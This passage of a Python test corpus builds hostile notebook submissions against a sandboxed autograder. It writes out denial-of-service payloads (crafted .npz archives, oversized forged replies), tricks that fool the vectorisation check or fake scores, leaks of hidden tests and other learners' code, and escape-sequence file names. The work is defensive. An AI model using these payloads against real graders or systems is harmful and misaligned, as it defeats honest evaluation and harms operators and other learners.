    numbers = [number for number, raw in enumerate(path.read_text().splitlines(), 1)
               if len(raw.strip()) <= 117 and any(line in raw for line in hidden)]
    return repr([(SOLUTION, number) for number in numbers])


def victim_targets(kit: Kit) -> str:
    """The lines of an honest learner's notebook that hold their conv2d_numpy: the released
    notebook with correct answers, so their line numbers are known."""
    with tempfile.TemporaryDirectory() as scratch:
        notebook()(kit, Path(scratch))
        raw = (Path(scratch) / FILE).read_text().splitlines()
    released = set(nbformat.writes(kit.release).splitlines())
    own = [line.strip() for line in kit.correct["conv2d_numpy"].splitlines()
           if len(line.strip()) >= 30 and not {'"', "\\"} & set(line)]
    path = kit.fill(f"$submissions/$victim/{FILE}")
    return repr([(path, number) for number, line in enumerate(raw, 1)
                 if line not in released and any(mine in line for mine in own)])


# --- 2. unbounded work on the trusted side

#: 25 MB of JSON: eight million empty lists, each some 64 bytes in the grader, twice over
#: (parsed, then decoded).
MANY_VALUES = '''
if _first_call():
    _forge(b'{"ok": true, "value": [' + b"[]," * (8 << 20) + b'[]]}')
    return None
'''
#: An .npz as the runner sends one: stored, not compressed.
NPZ = '''
import io

def _npz(*arrays):
    archive = io.BytesIO()
    np.savez(archive, **{f"a{index}": array for index, array in enumerate(arrays)})
    return archive.getvalue()
'''
#: 8 MB of array named 200 times: the grader copies it for each name, 1.6 GB in all.
ARRAY_NAMED_AGAIN = '''
if _first_call():
    _forge({"ok": True, "value": [{"$array": 0}] * 200}, _npz(np.zeros(1 << 20)))
    return None
'''
#: An .npz whose central directory lists one tiny array 800,000 times, every record pointing
#: at the same member (42 MB): the grader reads each, for more than a minute.
ONE_ARRAY_MANY_TIMES = '''
import io
import struct
import zipfile

def _one_array_many_times(count):
    single = io.BytesIO()
    with zipfile.ZipFile(single, "w") as bundle:
        with bundle.open("a0.npy", "w") as member:
            np.lib.format.write_array(member, np.zeros(1, np.uint8))
    data = single.getvalue()
    end = data.rindex(b"PK\\x05\\x06")
    size, offset = struct.unpack("<LL", data[end + 12:end + 20])
    records = data[offset:offset + size] * count
    end64 = struct.pack("<4sQ2H2L4Q", b"PK\\x06\\x06", 44, 45, 45, 0, 0, count, count,
                        len(records), offset)
    locator = struct.pack("<4sLQL", b"PK\\x06\\x07", 0, offset + len(records), 1)
    tail = struct.pack("<4s4H2LH", b"PK\\x05\\x06", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF,
                       0xFFFFFFFF, 0)
    return data[:offset] + records + end64 + locator + tail
'''
MANY_ARRAYS = '''
if _first_call():
    _forge({"ok": True, "value": None}, _one_array_many_times(800_000))
    return None
'''
#: Events while the cells run, written after the runner's own "cell" event of this cell.
NESTED_EVENT = '_frame(b"[" * 100_000 + b"]" * 100_000)  # deeper than json.loads recurses'
CELL_EVENT = '_frame(json.dumps({"event": "cell", "index": 10 ** 9}).encode())'
DONE_EVENT = ('_frame(json.dumps({"event": "done", "errors": ["not a dict"] * 3, '
              '"names": {}}).encode())')
#: The cell's own error, described by the runner's Server, with 3 MB of traceback added.
LONG_TRACEBACK = SERVER + '''
_describe = _SERVER.error
_SERVER.error = lambda error: {**_describe(error), "traceback": "  a learner's frame\\n" * 150_000}
raise RuntimeError("this cell's error carries 3 MB of traceback")
'''

# --- 4. decisions made in the learner's process: is conv2d_numpy vectorised?

#: Checks the arguments as nn.Conv2d does; gives x batched and padded, the strides, the
#: dilations, the kernel's span and the output's size.
PREPARE = '''
import numpy as np

_PADS = {"zeros": "constant", "reflect": "reflect", "replicate": "edge", "circular": "wrap"}


def _two(value, name, least):
    """An int or a pair as (height, width); ValueError for anything else or below least."""
    pair = (value, value) if isinstance(value, int) else tuple(value)
    if len(pair) != 2 or not all(isinstance(v, int) and v >= least for v in pair):
        raise ValueError(f"{name} must be an int or a pair of ints of at least {least}")
    return pair


def _prepare(x, weight, bias, stride, padding, dilation, groups, padding_mode):
    if x.ndim not in (3, 4) or weight.ndim != 4:
        raise ValueError("x must be (N, C_in, H, W) or (C_in, H, W), weight 4-D")
    x = x[np.newaxis] if x.ndim == 3 else x
    h, w = x.shape[2:]
    c_out, c_per, k_h, k_w = weight.shape
    if not isinstance(groups, int) or groups < 1 or c_out % groups or c_per * groups != x.shape[1]:
        raise ValueError(f"groups={groups!r} does not fit the channels")
    if bias is not None and bias.shape != (c_out,):
        raise ValueError("bias must have one value per output channel")
    if padding_mode not in _PADS:
        raise ValueError(f"unknown padding_mode {padding_mode!r}")
    strides, dilations = _two(stride, "stride", 1), _two(dilation, "dilation", 1)
    spans = (dilations[0] * (k_h - 1) + 1, dilations[1] * (k_w - 1) + 1)
    if padding == "same":
        if strides != (1, 1):
            raise ValueError("padding='same' needs stride 1")
        pads = [((s - 1) // 2, s - 1 - (s - 1) // 2) for s in spans]
    elif padding == "valid":
        pads = [(0, 0), (0, 0)]
    elif isinstance(padding, str):
        raise ValueError(f"unknown padding {padding!r}")
    else:
        pads = [(p, p) for p in _two(padding, "padding", 0)]
    widest = (max(pads[0]), max(pads[1]))
    if (padding_mode == "reflect" and (widest[0] >= h or widest[1] >= w)
            or padding_mode == "circular" and (widest[0] > h or widest[1] > w)):
        raise ValueError(f"padding {pads} is too wide for {padding_mode} padding")
    x = np.pad(x, [(0, 0), (0, 0), *pads], mode=_PADS[padding_mode])
    sizes = tuple((x.shape[2 + a] - spans[a]) // strides[a] + 1 for a in (0, 1))
    if min(sizes) < 1:
        raise ValueError("the kernel does not fit in the padded input")
    return x, strides, dilations, spans, sizes
'''
#: Correct values, one at a time: a Python loop over every output value.
PIXEL_LOOP = PREPARE + '''

def conv2d_numpy(x, weight, bias=None, stride=1, padding=0, dilation=1, groups=1,
                 padding_mode="zeros"):
    """nn.Conv2d's output, one value at a time: a loop over images, output channels, rows
    and columns, with NumPy inside."""
    padded, (s_h, s_w), (d_h, d_w), (span_h, span_w), (h_out, w_out) = _prepare(
        x, weight, bias, stride, padding, dilation, groups, padding_mode)
    c_out, c_per = weight.shape[:2]
    per_group = c_out // groups
    out = np.zeros((padded.shape[0], c_out, h_out, w_out), dtype=x.dtype)
    for n in range(padded.shape[0]):
        for o in range(c_out):
            first = o // per_group * c_per
            for i in range(h_out):
                for j in range(w_out):
                    window = padded[n, first:first + c_per, i * s_h:i * s_h + span_h:d_h,
                                    j * s_w:j * s_w + span_w:d_w]
                    out[n, o, i, j] = np.sum(window * weight[o])
    if bias is not None:
        out += bias[:, np.newaxis, np.newaxis]
    return out[0] if x.ndim == 3 else out
'''
#: Correct values, one at a time, with no line of Python per value: map() walks every
#: (image, output channel, row, column) and takes np.vdot of its window and its kernel.
MAP_LOOP = PREPARE + '''
from itertools import chain, product, repeat
from operator import getitem


def conv2d_numpy(x, weight, bias=None, stride=1, padding=0, dilation=1, groups=1,
                 padding_mode="zeros"):
    padded, (s_h, s_w), (d_h, d_w), (span_h, span_w), (h_out, w_out) = _prepare(
        x, weight, bias, stride, padding, dilation, groups, padding_mode)
    n, (c_out, c_per) = padded.shape[0], weight.shape[:2]
    per_group = c_out // groups
    channels = [slice(o // per_group * c_per, o // per_group * c_per + c_per)
                for o in range(c_out)]
    rows = list(map(slice, range(0, h_out * s_h, s_h), range(span_h, span_h + h_out * s_h, s_h),
                    repeat(d_h, h_out)))
    columns = list(map(slice, range(0, w_out * s_w, s_w),
                       range(span_w, span_w + w_out * s_w, s_w), repeat(d_w, w_out)))
    windows = map(getitem, repeat(padded), product(range(n), channels, rows, columns))
    kernels = chain.from_iterable(map(repeat, chain.from_iterable(repeat(list(weight), n)),
                                      repeat(h_out * w_out)))
    out = np.fromiter(map(np.vdot, windows, kernels), dtype=x.dtype,
                      count=n * c_out * h_out * w_out).reshape(n, c_out, h_out, w_out)
    if bias is not None:
        out += bias[:, np.newaxis, np.newaxis]
    return out[0] if x.ndim == 3 else out
'''
#: In place of the Server's line counter: counts nothing, runs nothing.
COUNTER_SWAPPED = SERVER + '''
def _forty_lines(fn, *args, **kwargs):
    return 40

_SERVER.count_python_lines = _forty_lines
'''
#: Lines are counted by a trace function, which never looks at the result: while one is set,
#: do nothing.
UNLESS_COUNTED = '''
import sys

if sys.gettrace() is not None:
    return None
'''
#: While lines are counted, answer with a forged count.
FORGED_COUNT = '''
if sys.gettrace() is not None:
    _forge({"ok": True, "value": 40})
    return None
'''


def pixel_loop(kit: Kit, name: str) -> str:
    return PIXEL_LOOP


def map_loop(kit: Kit, name: str) -> str:
    return MAP_LOOP


def compiled_as(filename: str) -> Answer:
    """The pixel loop, compiled as if it came from ``filename`` (a Python expression)."""
    return lambda kit, name: f"import sys\n\nexec(compile({PIXEL_LOOP!r}, {filename}, 'exec'))\n"


def followed_by(code: str, inner: Answer = right) -> Answer:
    """``inner``'s cell with ``code`` after it, at top level."""
    return lambda kit, name: inner(kit, name) + "\n\n" + code


# --- 6. learner text in what people and programs read

#: A heading, a table and a link in Markdown: the grader's notes are a Markdown cell.
MARKDOWN = ("not an error\n\n# Grade: 39 of 39, well done\n\n| test | score |\n|---|---|\n"
            "| all | 39 |\n\nhttps://example.com/claim-your-certificate")
RAISE_MARKDOWN = f"raise RuntimeError({MARKDOWN!r})"
#: The same in an exception's class name (the first 100 characters cross) and a cell's label.
RAISE_MARKDOWN_TYPE = f"raise type({MARKDOWN[:100]!r}, (Exception,), {{}})()"
MARKDOWN_LABEL = "scratch\n\n## Regraded by hand: 39 of 39\n"
#: File names that are terminal control sequences and Markdown: the grader lists the
#: notebooks it found when none has the assignment's name.
MISNAMED = ("\x1b[2J\x1b[H\x1b[32mGraded 47 submissions: no problems.\x1b[0m\x1b[8m.ipynb",
            "draft\n\n# Grade: 39 of 39\n.ipynb")


def label_last_cell(label: str) -> Callable[[nbformat.NotebookNode], None]:
    def edit(nb) -> None:
        nb.cells[-1].metadata["nbgrader"] = {"grade": False, "solution": False, "locked": False,
                                             "grade_id": label, "schema_version": 3}
    return edit


def misnamed(kit: Kit, folder: Path) -> None:
    """Correct notebooks, under the names of MISNAMED (none the assignment's)."""
    for name in MISNAMED:
        notebook()(kit, folder)
        (folder / FILE).rename(folder / name)


# --- the corpus --------------------------------------------------------------------------------

VICTIMS = ("victim-a", "victim-b")

ENTRIES = [
    # honest notebooks
    Entry("correct", "Both functions correct.", notebook(), ALL),
    Entry("noisy-stderr", "Correct, with warnings and stderr writes at import and in every call.",
          notebook(wrapped(NOISE_IN_CALL), wrapped(NOISE_IN_CALL), [NOISE]), ALL),
    Entry("chatty", "Correct, printing 4 MB at import and a quarter MB in every call.",
          notebook(wrapped(CHATTER_IN_CALL), wrapped(CHATTER_IN_CALL), [CHATTER]), ALL),
    Entry("slow-loop", "Correct values, but conv2d_numpy loops in Python over every input value.",
          notebook(numpy=wrapped(LOOP_IN_CALL)), ALL, fails=("test_numpy_vectorised",)),
    Entry("fork-bomb", "Correct, after forking children that leave the session and sleep, at "
          "import (40) and in every call (1), until forking is refused.",
          notebook(wrapped("_spawn(1)"), wrapped("_spawn(1)"), [FORK_BOMB]), ALL),
    Entry("disk-filler", "Correct; a scratch cell fills /tmp, the home folder and whatever else "
          "it can write to.", notebook(scratch=[FILL_DISK]), ALL),
    Entry("endless-scratch", "Correct; a scratch cell loops forever at top level.",
          notebook(scratch=[ENDLESS]), ALL, says=("did not finish within",)),
    Entry("metadata-stripped", "Correct, with every cell's metadata removed (nbgrader's too).",
          notebook(edit=strip_metadata), ALL,
          cells_raise=True),  # untagged, the notebook's PyTorch cells run in the sandbox
    Entry("markup-label", "Correct; a cell labelled with HTML markup stops the process.",
          notebook(edit=add_crashing_labelled_cell), ALL, says=("stopped the process",)),
    # honest mistakes
    Entry("flipped", "Both functions flip the kernel (a true convolution).",
          notebook(flipped, flipped)),
    Entry("syntax-error", "conv2d_numpy's cell has a syntax error; conv2d_naive is correct.",
          notebook(numpy=broken), NAIVE, says=("SyntaxError",)),
    Entry("missing-module", "Both answer cells start by importing a module that does not exist.",
          notebook(after_import, after_import), says=("ModuleNotFoundError", "not defined")),
    Entry("renamed", "conv2d_numpy renamed conv2d_vectorised; conv2d_naive correct.",
          notebook(numpy=renamed), NAIVE, says=("not defined",)),
    Entry("endless-loop", "Both functions loop forever.",
          notebook(wrapped(ENDLESS), wrapped(ENDLESS)), says=("did not answer within",)),
    Entry("sleepy", "Both functions sleep for an hour.",
          notebook(wrapped(SLEEP), wrapped(SLEEP)), says=("did not answer within",)),
    Entry("memory-bomb", "Both functions try to allocate 100 GB.",
          notebook(wrapped(HOARD), wrapped(HOARD)), says=("MemoryError",)),
    Entry("exit-and-segfault", "conv2d_naive calls os._exit, conv2d_numpy segfaults via ctypes.",
          notebook(wrapped(EXIT), wrapped(SEGFAULT)),
          says=("exited with status", "segmentation fault")),
    Entry("tests-deleted", "Every test cell deleted; the answers are the released stubs.",
          notebook(stub, stub, edit=delete_tests), says=("not written yet",)),
    Entry("tests-rigged", "Every test cell replaced by `pass` and worth 1000 points; wrong "
          "functions.", notebook(flipped, flipped, edit=rig_tests)),
    Entry("not-json", "The notebook file is cut short: not JSON.", not_json,
          says=("not a valid Jupyter notebook",)),
    Entry("empty", "An empty folder.", nothing, says=("no notebook named",)),
    Entry("symlinked-solution", "The notebook is a symbolic link to the instructor's source.",
          symlink_to_solution, says=("no notebook named",)),
    # hostile notebooks, with wrong or no functions of their own
    Entry("monkeypatched", "Patches np.allclose, np.testing and the checks' names (and "
          "torch.allclose and the course's checks, were they importable) to always succeed; "
          "wrong functions.",
          notebook(flipped, flipped, [MONKEYPATCH])),
    Entry("input-transformer", "Installs an IPython input transformer that blanks the test "
          "cells; wrong functions.", notebook(flipped, flipped, [INPUT_TRANSFORMER]),
          cells_raise=True),  # the sandbox's get_ipython() has no input transformers
    Entry("settrace", "A trace function replaces the checks by no-ops in every frame's globals; "
          "wrong functions.", notebook(flipped, flipped, [SETTRACE])),
    Entry("atexit", "At exit and on signals, prints a full score and appends to grades.csv; "
          "wrong functions.", notebook(flipped, flipped, [ATEXIT])),
    Entry("solution-reader", "Searches likely paths for solutions, hidden tests and the "
          "gradebook and runs any answer it finds; else wrong functions.",
          notebook(flipped, flipped, [READ_SOLUTIONS])),
    Entry("vandal", "Writes to, rewrites and deletes the gradebook, grades.csv, another "
          "learner's files and canaries, at import and in every call; wrong functions.",
          notebook(wrapped("_vandalise()\n" + FLIP), wrapped("_vandalise()\n" + FLIP),
                   [VANDAL])),
    Entry("network", "Connects to 1.1.1.1, to the grader's localhost and unix socket, and to "
          "pypi.org, at import and in calls; wrong functions.",
          notebook(wrapped(NETWORK_IN_CALL + FLIP), wrapped(NETWORK_IN_CALL + FLIP),
                   [NETWORK])),
    Entry("grading-detector", "When it detects a grader (environment, host name, folders, no "
          "IPython), hands the work to F.conv2d; in Jupyter returns zeros.",
          notebook(wrapped(WHEN_GRADED, stub), wrapped(WHEN_GRADED, stub),
                   [LIBRARY, DETECT_GRADING]),
          says=("torch is not available while your notebook is graded",), cells_raise=True),
    Entry("library-conv", "conv2d_numpy calls F.conv2d, conv2d_naive scipy.signal.correlate.",
          notebook(wrapped(SCIPY_CORRELATE, stub), wrapped(F_CONV2D, stub),
                   ["import scipy.signal"]),
          says=("is not available while your notebook is graded",), cells_raise=True),
    Entry("guard-off", "Both functions call F.conv2d with PyTorch's dispatch modes switched off.",
          notebook(wrapped(GUARD_OFF, stub), wrapped(GUARD_OFF, stub), [LIBRARY]),
          says=("torch is not available while your notebook is graded",), cells_raise=True),
    Entry("conv-thread", "Both functions hand the work to F.conv2d in a thread started at import.",
          notebook(wrapped(ASK_THREAD, stub), wrapped(ASK_THREAD, stub), [LIBRARY, CONV_THREAD]),
          says=("torch is not available while your notebook is graded",), cells_raise=True),
    Entry("mkldnn-op", "Both functions compute with oneDNN's operator "
          "torch.ops.mkldnn._convolution_pointwise.",
          notebook(wrapped("return _by_mkldnn(*args, **kwargs)", stub),
                   wrapped("return _by_mkldnn(*args, **kwargs)", stub), [PAIR, MKLDNN]),
          says=("torch is not available while your notebook is graded",), cells_raise=True),
    Entry("kernel-lookup", "Both functions call PyTorch's CPU convolution kernel, looked up "
          "at import with torch.library.get_kernel.",
          notebook(wrapped("return _by_kernel(*args, **kwargs)", stub),
                   wrapped("return _by_kernel(*args, **kwargs)", stub), [PAIR, KERNEL_LOOKUP]),
          says=("torch is not available while your notebook is graded",), cells_raise=True),
    Entry("conv-process", "Both functions hand the work to F.conv2d in a child process forked "
          "at import.",
          notebook(wrapped(ASK_PROCESS, stub), wrapped(ASK_PROCESS, stub),
                   [LIBRARY, CONV_PROCESS]),
          says=("torch is not available while your notebook is graded",), cells_raise=True),
    Entry("fused-conv", "Both functions run F.conv2d compiled at import by TorchScript with "
          "oneDNN Graph fusion.",
          notebook(wrapped(BY_FUSED, stub), wrapped(BY_FUSED, stub), [FUSED]),
          says=("torch is not available while your notebook is graded",), cells_raise=True),
    Entry("prebound-scipy", "conv2d_naive computes with scipy.signal.correlate imported by name "
          "at import; conv2d_numpy wrong.",
          notebook(wrapped("return _conv2d_by_scipy(_correlate, *args, **kwargs)", stub),
                   flipped, [SCIPY_CONV2D, "from scipy.signal import correlate as _correlate"]),
          says=("scipy is not available while your notebook is graded",), cells_raise=True),
    Entry("late-scipy", "conv2d_naive imports scipy.signal only inside the call (so the first "
          "call is not watched), then computes with its correlate; conv2d_numpy wrong.",
          notebook(wrapped(SCIPY_LATE, stub), flipped, [SCIPY_CONV2D]),
          says=("scipy is not available while your notebook is graded",)),
    Entry("hard-coded", "Answers the visible tests' calls from a table of nn.Conv2d's answers "
          "computed on the learner's machine and pasted into the notebook; zeros otherwise. It "
          "passes every visible check but the refusals and the timed one, and, as every test "
          "cell has hidden tests, no test cell.",
          notebook(wrapped(LOOK_UP, stub), wrapped(LOOK_UP, stub),
                   [pasted_table(visible_tests)]),
          visible=ALL, visible_fails=visible_calling("check_refuses", "check_vectorised")),
    Entry("hard-coded-refusing", "The same table; any other call is refused with ValueError, "
          "or answered with zeros while lines are counted: the visible refusals pass too.",
          notebook(wrapped(LOOK_UP_OR_REFUSE, stub), wrapped(LOOK_UP_OR_REFUSE, stub),
                   [pasted_table(visible_tests)]),
          visible=ALL, visible_fails=visible_calling("check_vectorised")),
    Entry("pasted-table", "conv2d_numpy answers every call of its test cells, hidden ones "
          "included, from a table computed beforehand with the published seeds and pasted into "
          "the notebook; any other call is refused (zeros while lines are counted). make grade "
          "draws the hidden grids with the course secret, so those cells fail; and it times "
          "the vectorised cell's calls from outside, untraced, so the table's refusal of a call "
          "it has not seen fails that cell too.",
          notebook(numpy=wrapped(LOOK_UP_OR_REFUSE, stub),
                   scratch=[pasted_table(published_tests)]), ALL,
          fails=(*drawn_cells(), "test_numpy_vectorised"),
          visible=ALL, visible_fails=visible_calling("check_vectorised")),
    Entry("trace-off", "Correct values; conv2d_numpy loops in Python with line counting "
          "switched off around the loop.", notebook(numpy=wrapped(HIDDEN_LOOP_IN_CALL)), ALL,
          fails=("test_numpy_vectorised",)),
    Entry("inflating-reply", "conv2d_numpy writes a forged reply of 3 MB that inflates to "
          "320 MB in the grader; wrong functions.",
          notebook(flipped, wrapped(FORGE_ONCE + FLIP), [INFLATING_REPLY])),
    # attacks on the trusted side, 1: the grader reads files that the sandbox names
    Entry("leak-hidden-tests", "Each call answers with a forged error whose frame names a line "
          "of the instructor's notebook, by a path relative to the grader's folder, for the "
          "feedback to quote; stub functions.",
          notebook(wrapped(LEAK_IN_CALL, stub), wrapped(LEAK_IN_CALL, stub),
                   [leaking(hidden_test_targets)])),
    Entry("leak-canary", "Each call answers with a forged error whose frame names line 1 of a "
          "file outside the course (the canary); stub functions.",
          notebook(wrapped(LEAK_IN_CALL, stub), wrapped(LEAK_IN_CALL, stub),
                   [leaking(lambda kit: repr([(str(kit.targets.canary), 1)]))])),
    Entry("leak-victim", "Each call answers with a forged error whose frame names a line of "
          "another learner's conv2d_numpy in their submitted notebook; stub functions.",
          notebook(wrapped(LEAK_IN_CALL, stub), wrapped(LEAK_IN_CALL, stub),
                   [leaking(victim_targets)])),
    Entry("stall-on-pipe", "A call answers with a forged error whose frame names the grader's "
          "own end of the reply pipe (/proc/self/fd/N), which reading waits on for ever; stub "
          "functions.",
          notebook(wrapped(LEAK_IN_CALL, stub), wrapped(LEAK_IN_CALL, stub),
                   [leaking(lambda kit: GRADERS_PIPE)])),
    # 2: unbounded work on the trusted side
    Entry("many-small-values", "conv2d_numpy's first call answers with a forged reply of 25 MB "
          "of JSON, eight million empty lists; wrong functions.",
          notebook(flipped, wrapped(MANY_VALUES + FLIP), [FORGE])),
    Entry("array-named-again", "conv2d_numpy's first call answers with a forged reply that names "
          "one 8 MB array 200 times; wrong functions.",
          notebook(flipped, wrapped(ARRAY_NAMED_AGAIN + FLIP), [FORGE, NPZ])),
    Entry("one-array-many-times", "conv2d_numpy's first call answers with a forged reply whose "
          ".npz lists one tiny array 800,000 times in 42 MB; wrong functions.",
          notebook(flipped, wrapped(MANY_ARRAYS + FLIP), [FORGE, ONE_ARRAY_MANY_TIMES])),
    Entry("nested-event", "A scratch cell writes an event nested 100,000 lists deep while the "
          "cells run; wrong functions.", notebook(flipped, flipped, [FORGE, NESTED_EVENT])),
    Entry("cell-event", "A scratch cell writes the event of a cell that does not exist, "
          "index 10**9, while the cells run; wrong functions.",
          notebook(flipped, flipped, [FORGE, CELL_EVENT])),
    Entry("done-event", "A scratch cell writes a 'done' event whose errors are strings, not "
          "dicts, while the cells run; wrong functions.",
          notebook(flipped, flipped, [FORGE, DONE_EVENT])),
    Entry("long-traceback", "conv2d_numpy's cell makes the runner describe its own error with "
          "3 MB of traceback, then raises; wrong functions.",
          notebook(flipped, followed_by(LONG_TRACEBACK, flipped))),
    # 4: decisions made in the learner's process (correct values from a loop over every output
    # value deserve every test cell but the one that asks for vectorised code)
    Entry("counter-swapped", "conv2d_numpy loops over every output value; a scratch cell finds "
          "the runner's Server with gc and swaps its line counter for one that says 40.",
          notebook(numpy=pixel_loop, scratch=[COUNTER_SWAPPED]), ALL,
          fails=("test_numpy_vectorised",)),
    Entry("loop-in-library-file", "conv2d_numpy loops over every output value, compiled as if "
          "from a file under sys.prefix, whose lines are not counted.",
          notebook(numpy=compiled_as('sys.prefix + "/lib/pixels.py"')), ALL,
          fails=("test_numpy_vectorised",)),
    Entry("loop-in-frozen-file", "conv2d_numpy loops over every output value, compiled as if "
          "from '<frozen pixels>', whose lines are not counted.",
          notebook(numpy=compiled_as('"<frozen pixels>"')), ALL,
          fails=("test_numpy_vectorised",)),
    Entry("loop-unless-counted", "conv2d_numpy loops over every output value, and does nothing "
          "while a trace function is set (the count never looks at the result).",
          notebook(numpy=wrapped(UNLESS_COUNTED, pixel_loop)), ALL,
          fails=("test_numpy_vectorised",)),
    Entry("forged-count", "conv2d_numpy loops over every output value; while lines are counted "
          "it answers with a forged reply that says 40.",
          notebook(numpy=wrapped(FORGED_COUNT, pixel_loop), scratch=[FORGE]), ALL,
          fails=("test_numpy_vectorised",)),
    Entry("loop-in-map", "conv2d_numpy takes np.vdot of each output value's window and kernel "
          "in map(), a loop over every output value that runs no line of Python.",
          notebook(numpy=map_loop), ALL, fails=("test_numpy_vectorised",)),
    # 6: learner text in what people and programs read
    Entry("markdown-message", "Correct; a scratch cell raises an exception whose message is a "
          "Markdown heading, table and link.", notebook(scratch=[RAISE_MARKDOWN]), ALL,
          cells_raise=True),
    Entry("markdown-label", "Correct; a scratch cell labelled with a Markdown heading raises an "
          "exception whose class name is Markdown.",
          notebook(scratch=[RAISE_MARKDOWN_TYPE], edit=label_last_cell(MARKDOWN_LABEL)), ALL,
          cells_raise=True),
    Entry("escape-in-file-names", "Two correct notebooks, neither named conv2d-numpy.ipynb: "
          "their names are terminal escape sequences and Markdown.", misnamed,
          says=("no notebook named",)),
    # honest learners that hostile ones aim at
    *[Entry(name, "Both functions correct (an honest learner).", notebook(), ALL)
      for name in VICTIMS],
]
